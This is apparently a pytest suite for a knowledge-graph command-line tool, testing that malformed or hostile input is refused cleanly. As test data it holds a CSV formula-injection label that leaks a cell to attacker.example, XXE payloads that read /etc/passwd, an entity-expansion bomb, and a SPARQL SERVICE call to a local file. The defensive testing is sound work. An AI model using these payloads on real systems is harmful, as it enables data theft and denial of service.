"""Bad input is refused cleanly: one ``Error:`` line naming the file, line or argument, exit 2,
no traceback, and nothing changed. Each case carries the broken input it must catch."""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
import tempfile
import threading
import urllib.request
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from click.testing import CliRunner

from kg.cli import cli
from kg.query import QueryResult, format_result, neutralise_cell

ROOT = Path(__file__).resolve().parent.parent
RECORD = "cases/seed-dauletbayev-2017.yaml"
HOSTILE_LABEL = '=HYPERLINK("http://attacker.example/?leak="&A1,"click me")'


def run(*args: str):
    return CliRunner().invoke(cli, list(args))


def assert_one_line(result, *needles: str, code: int = 2) -> str:
    """Exit code, one ``Error:`` line as the last stderr line, every needle in it, no traceback."""
    assert result.exit_code == code, result.output
    err = result.stderr
    lines = [line for line in err.strip().splitlines() if line]
    assert lines and lines[-1].startswith("Error: "), err
    assert [line for line in lines if line.startswith("Error")] == lines[-1:], err
    for needle in needles:
        assert needle in lines[-1], err
    assert "Traceback" not in result.output and "Traceback" not in err
    return lines[-1]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A data folder whose reference data carries a label that is a spreadsheet formula."""
    root = tmp_path_factory.mktemp("hostile")
    data = root / "data"
    shutil.copytree(ROOT / "data", data)
    (data / "reference" / "hostile.ttl").write_text(
        "@prefix rdfs: <http://www.w3.org/2000/01/rdf-schema#> .\n"
        f"<https://example.org/h1> rdfs:label {HOSTILE_LABEL!r} .\n".replace("'", '"""'),
        encoding="utf-8",
    )
    result = run("build", "--store", str(root / "store"), "--data", str(data))
    assert result.exit_code == 0, result.output
    return root


@pytest.fixture()
def broken_data(tmp_path: Path) -> Path:
    dest = tmp_path / "data"
    shutil.copytree(ROOT / "data", dest)
    return dest


def _build(data: Path, store: Path):
    return run("build", "--store", str(store), "--data", str(data))


# -- spreadsheet formulas ------------------------------------------------------------------


def test_csv_cells_cannot_be_formulas(hostile: Path, tmp_path: Path) -> None:
    rq = tmp_path / "labels.rq"
    rq.write_text(
        "# title: Labels of example.org\n# question: q\n# returns: ?s ?label\n"
        "PREFIX rdfs: <http://www.w3.org/2000/01/rdf-schema#>\n"
        "SELECT ?s ?label WHERE { ?s rdfs:label ?label "
        'FILTER(STRSTARTS(STR(?s), "https://example.org/")) }\n',
        encoding="utf-8",
    )
    store = str(hostile / "store")
    for fmt, sep in (("csv", ","), ("tsv", "\t")):
        result = run("query", "--store", store, str(rq), "--format", fmt)
        assert result.exit_code == 0, result.output
        lines = result.stdout.splitlines()
        assert lines[0] == f"s{sep}label"
        assert HOSTILE_LABEL not in [c.strip('"') for c in lines[1].split(sep)]
        assert "'=HYPERLINK(" in lines[1], lines[1]
    # JSON is for programs: the label comes back exactly as stored
    result = run("query", "--store", store, str(rq), "--format", "json")
    assert HOSTILE_LABEL in result.stdout.replace('\\"', '"')


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd", "'+cmd"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-3", "-3"),
        ("+4.5e3", "+4.5e3"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_neutralise_cell(cell: str, expected: str) -> None:
    assert neutralise_cell(cell) == expected


def test_header_cells_are_neutralised_too() -> None:
    from rdflib import Literal

    out = format_result(QueryResult(["x"], [(Literal("=2*3"),), (Literal(-7),)]), "csv")
    assert out.splitlines() == ["x", "'=2*3", "-7"]


# -- query parameters and SERVICE -----------------------------------------------------------


@pytest.mark.parametrize(
    "value", ["<http://a b>", "<https://example.org/x>y>", "http://a b", "akg:x>y", "<>"]
)
def test_iri_parameter_that_is_not_an_iri(hostile: Path, value: str) -> None:
    result = run("query", "cq01", "--store", str(hostile / "store"), "-p", f"defender={value}")
    assert_one_line(result, "?defender", "is not a valid IRI")


def test_service_to_a_file_is_refused_even_with_allow_network(
    hostile: Path, tmp_path: Path
) -> None:
    rq = tmp_path / "svc.rq"
    rq.write_text("SELECT * WHERE {\n  SERVICE <file:///etc/passwd> { ?s ?p ?o }\n}\n")
    result = run("query", "--store", str(hostile / "store"), str(rq), "--allow-network")
    assert_one_line(result, f"{rq}:2", "SERVICE <file:///etc/passwd>", "only http and https")


def test_service_that_fails_while_results_are_read(hostile: Path, tmp_path: Path) -> None:
    rq = tmp_path / "svc.rq"
    # Oxigraph refuses port 1 before connecting, so no traffic leaves the test
    rq.write_text("SELECT * WHERE { SERVICE <http://127.0.0.1:1/sparql> { ?s ?p ?o } }\n")
    result = run("query", "--store", str(hostile / "store"), str(rq), "--allow-network")
    assert_one_line(result, str(rq), "query failed")


# -- case records ---------------------------------------------------------------------------


def _edit_record(data: Path, old: str, new: str) -> Path:
    path = data / RECORD
    text = path.read_text(encoding="utf-8")
    assert old in text
    path.write_text(text.replace(old, new, 1), encoding="utf-8")
    return path


@pytest.mark.parametrize("date", ["2017-13-45", "2017-02-30"])
def test_date_that_yaml_cannot_build(broken_data: Path, tmp_path: Path, date: str) -> None:
    path = _edit_record(broken_data, "  date: 2017-11-22\n", f"  date: {date}\n")
    result = _build(broken_data, tmp_path / "store")
    assert_one_line(result, f"{path}:6:", f"'{date}' is not a date")
    assert not (tmp_path / "store").exists()


def test_section_that_is_not_a_list(broken_data: Path, tmp_path: Path) -> None:
    path = broken_data / RECORD
    text = path.read_text(encoding="utf-8")
    start, end = text.index("persons:\n"), text.index("organisations:\n")
    line = text[:start].count("\n") + 1
    path.write_text(text[:start] + "persons: 42\n" + text[end:], encoding="utf-8")
    result = _build(broken_data, tmp_path / "store")
    assert_one_line(result, f"{path}:{line}: persons: should be a list")


def test_evidence_entry_that_is_not_a_mapping(broken_data: Path, tmp_path: Path) -> None:
    path = _edit_record(
        broken_data, "  evidence:\n  - quote:", "  evidence:\n  - just text\n  - quote:"
    )
    result = _build(broken_data, tmp_path / "store")
    assert_one_line(result, str(path), "evidence.0: should be a mapping")


def test_plain_value_that_is_a_mapping(broken_data: Path, tmp_path: Path) -> None:
    path = _edit_record(broken_data, "  variants:\n  - Dauletbayev\n", "  variants:\n  - {a: b}\n")
    result = _build(broken_data, tmp_path / "store")
    assert_one_line(result, str(path), "persons.0.variants.0: should be a plain value")


@pytest.mark.parametrize(
    "iri", ['"http://example.org/a b"', '"akr:org/a b"', '"https://example.org/<x>"']
)
def test_record_iri_that_is_not_an_iri(broken_data: Path, tmp_path: Path, iri: str) -> None:
    # The graphs' text is parsed for its Turtle without checking IRIs: a record's own IRI is
    # checked when its graph is made (before, a space went on to the parser's traceback).
    path = _edit_record(broken_data, "  iri: akr:org/o-6b3f0c59\n", f"  iri: {iri}\n")
    result = _build(broken_data, tmp_path / "store")
    assert_one_line(result, str(path), "o1", f"'{iri[1:-1]}' is not a valid IRI")
    assert not (tmp_path / "store").exists()


def test_record_over_the_size_limit(
    broken_data: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("KG_MAX_RECORD_BYTES", "1k")
    result = _build(broken_data, tmp_path / "store")
    assert_one_line(result, RECORD.split("/")[1], "limit", "KG_MAX_RECORD_BYTES")


# -- reference files ------------------------------------------------------------------------


def test_reference_turtle_with_a_space_in_an_iri(broken_data: Path, tmp_path: Path) -> None:
    bad = broken_data / "reference" / "bad.ttl"
    bad.write_text(
        "@prefix rdfs: <http://www.w3.org/2000/01/rdf-schema#> .\n\n"
        '<http://example.org/a b> rdfs:label "x" .\n',
        encoding="utf-8",
    )
    result = _build(broken_data, tmp_path / "store")
    assert_one_line(result, str(bad), "line 3", "Invalid IRI")


# -- stores and outputs ---------------------------------------------------------------------


def test_corrupt_store(hostile: Path, tmp_path: Path) -> None:
    store = tmp_path / "corrupt"
    shutil.copytree(hostile / "store", store)
    for f in list(store.rglob("*")):
        if f.name.startswith("MANIFEST") or f.suffix == ".sst":
            f.write_bytes(os.urandom(100))
    for args in (["stats"], ["query", "cq01"], ["export"]):
        result = run(args[0], "--store", str(store), *args[1:])
        assert_one_line(result, str(store), "cannot open the store")


def test_export_into_a_path_whose_parent_is_a_file(hostile: Path, tmp_path: Path) -> None:
    (tmp_path / "afile").write_text("x")
    out = tmp_path / "afile" / "x.ttl"
    result = run("export", "--store", str(hostile / "store"), "-o", str(out))
    assert_one_line(result, str(out), "is a file")
    assert (tmp_path / "afile").read_text() == "x"


def test_build_into_a_store_path_that_is_a_file(tmp_path: Path) -> None:
    (tmp_path / "store").write_text("x")
    result = run("build", "--store", str(tmp_path / "store"))
    assert_one_line(result, str(tmp_path / "store"), "is a file")


def test_serve_on_an_impossible_port() -> None:
    result = run("serve", "--port", "99999")
    assert_one_line(result, "--port", "99999")


def test_build_into_a_read_only_folder(hostile: Path) -> None:
    """Run as an unprivileged user when the tests run as root, who may write anywhere."""
    folder = Path(tempfile.mkdtemp(prefix="kg-ro-"))
    data = Path(tempfile.mkdtemp(prefix="kg-ro-data-")) / "data"
    try:
        shutil.copytree(hostile / "store", folder / "store")
        before = sorted(p.name for p in (folder / "store").iterdir())
        for path in [folder / "store", *(folder / "store").iterdir()]:
            os.chmod(path, 0o755 if path.is_dir() else 0o644)
        shutil.copytree(ROOT / "data", data)
        os.chmod(data.parent, 0o755)
        if os.geteuid() == 0:  # the build may read and write data/ (its pseudonym key)
            for path in [data, *data.rglob("*")]:
                os.chown(path, 65534, 65534)
        os.chmod(folder, 0o555)
        cmd = [sys.executable, "-m", "kg.cli", "build", "--store", str(folder / "store")]
        cmd += ["--data", str(data)]
        if os.geteuid() == 0:
            os.chmod(folder.parent, os.stat(folder.parent).st_mode)  # /tmp: world-traversable
            cmd = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", *cmd]
        proc = subprocess.run(
            cmd, cwd=ROOT, capture_output=True, text=True, timeout=300, check=False
        )
        assert proc.returncode == 2, proc.stderr
        lines = proc.stderr.strip().splitlines()
        assert lines[-1].startswith("Error: "), proc.stderr
        assert str(folder / "store") in lines[-1] and "cannot write" in lines[-1], proc.stderr
        assert "Traceback" not in proc.stderr
        assert sorted(p.name for p in (folder / "store").iterdir()) == before
    finally:
        os.chmod(folder, 0o755)
        shutil.rmtree(folder)
        shutil.rmtree(data.parent, ignore_errors=True)


# -- kg link given an unexpected answer -----------------------------------------------------


class _OddEndpoint(ThreadingHTTPServer):
    """Answers each request with the next body of ``bodies``; "pass" relays to the fixture."""

    daemon_threads = True

    def __init__(self, upstream: str, bodies: list[str]) -> None:
        super().__init__(("127.0.0.1", 0), _OddHandler)
        self.upstream = upstream
        self.bodies = bodies
        self.url = f"http://127.0.0.1:{self.server_address[1]}/sparql"


class _OddHandler(BaseHTTPRequestHandler):
    server: _OddEndpoint

    def log_message(self, *args: object) -> None:
        pass

    def _answer(self, body: bytes | None) -> None:
        reply = self.server.bodies.pop(0) if self.server.bodies else "pass"
        ctype = "application/sparql-results+json"
        if reply == "pass":
            req = urllib.request.Request(
                self.server.upstream + self.path[len("/sparql") :],
                data=body,
                headers={k: v for k, v in self.headers.items() if k.lower() != "host"},
                method=self.command,
            )
            with urllib.request.urlopen(req, timeout=10) as response:
                data, ctype = response.read(), response.headers["Content-Type"]
        else:
            data = reply.encode("utf-8")
        self.send_response(200)
        self.send_header("Content-Type", ctype)
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def do_GET(self) -> None:  # noqa: N802
        self._answer(None)

    def do_POST(self) -> None:  # noqa: N802
        self._answer(self.rfile.read(int(self.headers.get("Content-Length") or 0)))


@pytest.fixture(scope="module")
def wikidata_fixture():
    import pyoxigraph as ox

    from kg.web import BackgroundServer, DatasetSource, Limits

    backend = ox.Store()
    backend.load(
        path=str(ROOT / "tests" / "fixtures" / "wikidata" / "items.ttl"), format=ox.RdfFormat.TURTLE
    )
    server = BackgroundServer(DatasetSource.from_store(backend), Limits(timeout=5.0))
    yield server
    server.stop()


@pytest.mark.parametrize(
    "bodies",
    [
        ['{"head": {"vars": []}, "results": {"bindings": [{"name": 1}]}}'],
        ['{"head": {"vars": []}, "results": {"bindings": {"name": "x"}}}'],
        ['{"head": {"vars": []}, "results": {"bindings": [{"item": {"value": "x"}}]}}'],
        ['{"head": {"vars": []}, "results": []}'],
        ["[1, 2, 3]"],
        ["this is not JSON"],
        # the search answers as Wikidata would, the facts query oddly
        ["pass", '{"head": {}, "results": {"bindings": [{"item": {"type": "uri"}}]}}'],
    ],
)
def test_link_given_an_unexpected_answer(
    hostile: Path, tmp_path: Path, wikidata_fixture, bodies: list[str]
) -> None:
    odd = _OddEndpoint(wikidata_fixture.url, list(bodies))
    threading.Thread(target=odd.serve_forever, daemon=True).start()
    try:
        result = run(
            "link",
            "--store",
            str(hostile / "store"),
            "--endpoint",
            odd.url,
            "--links",
            str(tmp_path / "links"),
            "--cache",
            str(tmp_path / "cache"),
            "--min-interval",
            "0",
            "--types",
            "country,organisation",
            "--review",
            str(tmp_path / "review.csv"),
        )
    finally:
        odd.shutdown()
        odd.server_close()
    assert_one_line(result, odd.url)
    assert not (tmp_path / "links").exists() or not any((tmp_path / "links").iterdir())
    assert not (tmp_path / "review.csv").exists()


# -- reference files in other formats -------------------------------------------------------


class _Counter(ThreadingHTTPServer):
    """Counts the requests that reach it: a reference file must never make one."""

    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _CountHandler)
        self.hits: list[str] = []
        self.base = f"http://127.0.0.1:{self.server_address[1]}"


class _CountHandler(BaseHTTPRequestHandler):
    server: _Counter

    def log_message(self, *args: object) -> None:
        pass

    def do_GET(self) -> None:  # noqa: N802
        self.server.hits.append(self.path)
        body = b'{"@context": {"label": "http://www.w3.org/2000/01/rdf-schema#label"}}'
        self.send_response(200)
        self.send_header("Content-Type", "application/ld+json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


@pytest.fixture()
def counter():
    server = _Counter()
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server
    server.shutdown()
    server.server_close()


LABEL = "http://www.w3.org/2000/01/rdf-schema#label"
GOOD_REFERENCE = {
    "extra.nt": f'<https://example.org/nt1> <{LABEL}> "From N-Triples"@en .\n',
    "extra.jsonld": (
        '{"@context": {"label": {"@id": "' + LABEL + '", "@language": "en"}},\n'
        ' "@id": "https://example.org/jl1", "label": "From JSON-LD"}\n'
    ),
    "extra.rdf": (
        '<?xml version="1.0" encoding="utf-8"?>\n'
        '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"\n'
        '         xmlns:rdfs="http://www.w3.org/2000/01/rdf-schema#">\n'
        '  <rdf:Description rdf:about="https://example.org/x1">\n'
        '    <rdfs:label xml:lang="en">From RDF/XML</rdfs:label>\n'
        "  </rdf:Description>\n</rdf:RDF>\n"
    ),
}


def test_reference_files_in_every_format_are_read(
    broken_data: Path, tmp_path: Path, counter: _Counter
) -> None:
    for name, text in GOOD_REFERENCE.items():
        (broken_data / "reference" / name).write_text(text, encoding="utf-8")
    # owl:imports is a statement, never followed
    (broken_data / "reference" / "imports.ttl").write_text(
        "@prefix owl: <http://www.w3.org/2002/07/owl#> .\n"
        f"<https://example.org/onto> owl:imports <{counter.base}/onto.ttl> .\n",
        encoding="utf-8",
    )
    store = tmp_path / "store"
    result = _build(broken_data, store)
    assert result.exit_code == 0, result.output
    rq = tmp_path / "q.rq"
    rq.write_text(
        f"SELECT ?l WHERE {{ ?s <{LABEL}> ?l "
        'FILTER(STRSTARTS(STR(?s), "https://example.org/")) } ORDER BY ?l\n'
    )
    out = run("query", "--store", str(store), str(rq), "--format", "csv")
    assert out.stdout.splitlines() == ["l", "From JSON-LD", "From N-Triples", "From RDF/XML"]
    assert counter.hits == []


@pytest.mark.parametrize(
    ("name", "text", "needles"),
    [
        (
            "xxe.rdf",
            '<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY x SYSTEM "{base}/secret">]>\n'
            '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/>\n',
            ["DOCTYPE"],
        ),
        (
            "file.rdf",
            '<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n'
            '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">&x;</rdf:RDF>\n',
            ["DOCTYPE"],
        ),
        (
            "bomb.rdf",
            '<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY a "aaaaaaaaaa">'
            '<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>\n<r>&b;</r>\n',
            ["DOCTYPE"],
        ),
        ("remote.jsonld", '{{"@context": "{base}/ctx", "@id": "urn:x:1"}}', ["would be fetched"]),
        (
            "nested.jsonld",
            '{{"@context": [{{"@import": "{base}/ctx"}}], "@graph": []}}',
            ["would be fetched"],
        ),
        (
            "deep.jsonld",
            '{{"@context": {{}}, "@graph": [{{"@context": ["{base}/ctx"], "@id": "urn:x:2"}}]}}',
            ["would be fetched"],
        ),
        ("broken.jsonld", '{{"@id": "urn:x:3",\n "a": }}', [":2:", "JSON syntax error"]),
        ("broken.nt", "<urn:x:4> <urn:p> .\n", ["N-Triples syntax error"]),
        ("space.nt", '<urn:x 5> <urn:p> "x" .\n', ["N-Triples syntax error"]),
        ("broken.rdf", "<rdf:RDF", ["RDF/XML syntax error"]),
        ("notes.txt", "some notes", ["not a reference file type", ".jsonld"]),
        ("data.trig", "<urn:a> <urn:b> <urn:c> .", ["not a reference file type"]),
    ],
)
def test_unsafe_or_unknown_reference_files_are_refused_by_name(
    broken_data: Path, tmp_path: Path, counter: _Counter, name: str, text: str, needles: list[str]
) -> None:
    bad = broken_data / "reference" / name
    bad.write_text(text.format(base=counter.base), encoding="utf-8")
    result = _build(broken_data, tmp_path / "store")
    assert_one_line(result, str(bad), *needles)
    assert counter.hits == []
    assert not (tmp_path / "store").exists()


def test_reference_file_over_the_size_limit(
    broken_data: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    big = broken_data / "reference" / "big.nt"
    big.write_text(f'<urn:x:big> <{LABEL}> "{"x" * 300_000}" .\n', encoding="utf-8")
    monkeypatch.setenv("KG_MAX_REFERENCE_BYTES", "256k")
    result = _build(broken_data, tmp_path / "store")
    assert_one_line(result, str(big), "over the 256 kB limit", "KG_MAX_REFERENCE_BYTES")


def test_a_limit_that_is_not_a_size(broken_data: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("KG_MAX_RECORD_BYTES", "lots")
    result = _build(broken_data, broken_data.parent / "store")
    assert_one_line(result, "KG_MAX_RECORD_BYTES", "not a size")


def test_query_and_parameter_over_their_limits(
    hostile: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("KG_MAX_PARAM_BYTES", "10")
    result = run("query", "cq01", "--store", str(hostile / "store"), "-p", "defender=" + "x" * 11)
    assert_one_line(result, "parameter ?defender", "KG_MAX_PARAM_BYTES")
    monkeypatch.setenv("KG_MAX_QUERY_BYTES", "1k")
    rq = tmp_path / "big.rq"
    rq.write_text("# " + "x" * 2000 + "\nASK {}\n")
    result = run("query", "--store", str(hostile / "store"), str(rq))
    assert_one_line(result, str(rq), "KG_MAX_QUERY_BYTES")
